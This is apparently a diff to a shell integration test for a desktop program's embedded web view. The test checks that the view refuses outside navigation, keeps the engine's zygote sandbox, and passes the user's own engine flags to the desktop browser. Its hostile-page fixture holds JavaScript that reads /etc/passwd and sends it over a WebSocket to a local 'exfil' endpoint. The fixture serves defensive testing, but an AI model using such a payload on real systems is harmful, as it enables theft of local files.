@@ -17,9 +17,12 @@ STRANGER=http://127.0.0.1:8099
 python3 -m http.server 8099 --bind 127.0.0.1 --directory "$WORK" 2>"$ART/stranger.log" >/dev/null &
 BG_PIDS+=($!)
 mkdir -p "$WORK/bin"
-printf '#!/bin/sh\necho "$@" >>"%s"\n' "$ART/opened.txt" >"$WORK/bin/xdg-open"
+printf '#!/bin/sh\necho "$@" >>"%s"\necho "$QTWEBENGINE_CHROMIUM_FLAGS" >"%s"\n' "$ART/opened.txt" "$ART/flags.txt" \
+  >"$WORK/bin/xdg-open"
 chmod +x "$WORK/bin/xdg-open"
 export APP_PATH=$WORK/bin:$PATH
+# Switches of the person's own for the web engine: the program's process model holds beside them.
+export QTWEBENGINE_CHROMIUM_FLAGS=--disable-gpu-shader-disk-cache
 
 steal="var x=new XMLHttpRequest();x.open('GET','file:///etc/passwd',false);x.send();
 new WebSocket('ws://127.0.0.1:8099/exfil-ws?notes='+encodeURIComponent(x.responseText));
@@ -44,6 +47,9 @@ start_site
 start_app
 wait_splash_then_main
 program_log=$XDG_STATE_HOME/tavro/tavro.log
+ps -o args= --ppid "$APP_PID" | grep -q -- '--type=zygote' || fail "the web engine did not start its zygote"
+! ps -o args= --ppid "$APP_PID" | grep -q -- '--no-zygote-sandbox' ||
+  fail "the engine started the unsandboxed zygote: the program's switches were lost to the person's"
 wait_until 20 grep -q 'web view: navigation to http://localhost/TavroMP3LiveUpdate2 refused: the page moved' \
   "$program_log" || fail "the home page's reloads were not stopped"
 wait_until 20 grep -q "web view: navigation to $STRANGER/away refused: it leaves the update site" "$program_log" ||
@@ -63,6 +69,8 @@ wait_until 10 grep -qx "$STRANGER/clicked-outside" "$ART/opened.txt" ||
 sleep 1
 shot 03-hostile-site
 [[ $(wc -l <"$ART/opened.txt") -eq 1 ]] || fail "the desktop's browser was asked more than once: $(cat "$ART/opened.txt")"
+[[ $(cat "$ART/flags.txt") == "$QTWEBENGINE_CHROMIUM_FLAGS" ]] ||
+  fail "the desktop's browser got the engine switches '$(cat "$ART/flags.txt")', not the person's own"
 [[ $(windows . "$APP_PID" | wc -l) -eq 1 ]] || fail "a window other than the main one appeared"
 grep -q '"GET /TavroMP3LiveUpdate2/on-site.png .*QtWebEngine' "$WORK/nginx/logs/access.log" ||
   fail "the home page's picture on the site, at its full address, was not fetched by the program's client"
